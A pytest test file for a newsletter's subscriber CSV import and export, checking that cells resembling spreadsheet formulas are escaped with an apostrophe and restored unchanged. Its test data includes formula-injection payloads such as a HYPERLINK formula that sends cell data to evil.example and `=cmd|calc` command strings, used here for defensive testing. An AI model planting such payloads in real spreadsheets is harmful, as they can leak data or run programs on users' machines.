"""No spreadsheet runs what stands in a list of readers, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsletter.audience.exporting import export_csv
from newsletter.audience.importing import import_csv
from newsletter.audience.spreadsheet import freed, guarded
from newsletter.clock import Clock
from newsletter.model.publication import Publication
from newsletter.store import Store, publications, subscribers

from .conftest import WriteList

STARTS = "=+-@\t\r\n＝＋－＠"
TEXTS = st.text(alphabet=st.sampled_from("'=+-@\t\r\n ＝x1 \"(|"), max_size=8)


def a_letter(store: Store, clock: Clock) -> Publication:
    with store.writing() as tx:
        return publications.add(tx, "Alderwick Letter", now=clock.now())


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("https://evil.example?"&A1)', '\'=HYPERLINK("https://evil.example?"&A1)'),
        ("+49 (30) 12-34", "+49 (30) 12-34"),
        ("-12,50", "-12,50"),
        ("'+49 30 1234", "''+49 30 1234"),
        ("+49 30 1234+A1", "'+49 30 1234+A1"),
        ("-1\t", "'-1\t"),
        ("-1+1|cmd", "'-1+1|cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("'=1", "''=1"),
        ("’tis the season", "’tis the season"),
        ("'tis the season", "'tis the season"),
        ("o'hara@example.org", "o'hara@example.org"),
        ("", ""),
    ],
)
def test_what_looks_like_a_formula_stands_behind_an_apostrophe(cell: str, shown: str) -> None:
    assert guarded(cell) == shown
    assert freed(shown) == cell


@given(TEXTS)
def test_every_text_comes_back_and_none_begins_as_a_formula(text: str) -> None:
    assert freed(guarded(text)) == text
    shown = guarded(text).lstrip(" ")
    assert not shown.startswith(tuple(STARTS)) or set(shown[1:]) <= set("1 (-"), "no more than a number"


def test_a_list_full_of_formulas_is_exported_harmless_and_comes_back(
    sqlite_store: Store, clock: Clock, a_list: WriteList, tmp_path: Path
) -> None:
    publication = a_letter(sqlite_store, clock)
    path = a_list(
        "email,name,tags,=Score,phone",
        '=cmd@example.org,"=1+1","@all, =b",-5,+49 30 1234',
        "-ana@example.org,'=quoted,,'-6,'+1",
    )
    assert import_csv(sqlite_store, clock, publication.id, path).imported == 2
    with sqlite_store.reading() as tx:
        first, second = subscribers.listing(tx, publication.id, limit=9)
    assert (first.email, first.name, first.tags) == ("=cmd@example.org", "=1+1", ("@all", "=b"))
    assert dict(first.fields) == {"=Score": "-5", "phone": "+49 30 1234"}
    assert (second.name, dict(second.fields)) == ("=quoted", {"=Score": "-6", "phone": "+1"})  # guarded elsewhere

    exported = "".join(export_csv(sqlite_store, publication.id))
    for row in csv.reader(io.StringIO(exported)):
        started = [cell for cell in row if cell.startswith(tuple(STARTS))]
        assert set(started) <= {"-5", "-6", "+49 30 1234", "+1"}, "numbers stay as they are"
    with sqlite_store.writing() as tx:
        other = publications.add(tx, "Another", now=clock.now())
    (tmp_path / "again.csv").write_text(exported, newline="")
    assert import_csv(sqlite_store, clock, other.id, tmp_path / "again.csv").imported == 2
    assert "".join(export_csv(sqlite_store, other.id)) == exported


def test_the_rejected_rows_are_harmless_too_and_come_back_as_they_were(
    sqlite_store: Store, clock: Clock, a_list: WriteList
) -> None:
    publication = a_letter(sqlite_store, clock)
    path = a_list("email,=note", "=cmd|calc,@x", "''=nobody,y")
    report = import_csv(sqlite_store, clock, publication.id, path)
    assert report.rejected_file is not None
    _, first, second = csv.reader(io.StringIO(report.rejected_file.read_text()))
    assert (first[1:], second[1:]) == (["'=cmd|calc", "'@x"], ["''=nobody", "y"])
    again = import_csv(sqlite_store, clock, publication.id, report.rejected_file, dry_run=True)
    assert [one.cells[1:] for one in again.rejected] == [one.cells for one in report.rejected]
